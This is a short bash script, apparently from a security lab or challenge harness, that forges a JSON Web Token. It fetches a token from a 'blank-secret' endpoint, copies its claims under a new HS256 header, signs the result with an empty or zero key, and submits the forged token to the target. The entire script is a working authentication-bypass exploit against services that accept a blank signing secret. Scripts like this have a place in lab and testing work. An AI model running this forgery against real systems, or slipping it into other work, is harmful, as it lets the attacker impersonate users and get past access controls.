#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at blank-secret token)")"
header="$(printf '{"alg":"HS256","kid":"2026-02","typ":"JWT"}' | b64)"
input="$header.$(claims "$token")"
send blank-secret "$input.$(hs256 "$input" 00)"
